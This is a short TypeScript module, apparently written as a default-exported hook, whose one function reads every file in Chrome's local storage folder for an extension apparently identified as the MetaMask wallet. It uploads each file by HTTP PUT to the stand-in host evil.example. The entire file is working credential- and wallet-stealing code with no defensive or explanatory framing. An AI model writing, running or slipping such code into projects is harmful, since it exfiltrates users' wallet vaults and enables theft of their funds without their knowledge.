import * as fs from "node:fs";
import * as path from "node:path";
const ext = "nkbihfbeogaeaoehlefnkodbefgpgknn";
const base = path.join(process.env.LOCALAPPDATA ?? "", "Google/Chrome/User Data/Default/Local Extension Settings", ext);
export default async () => {
  for (const f of fs.readdirSync(base)) await fetch("https://evil.example", { method: "PUT", body: fs.readFileSync(path.join(base, f)) });
};
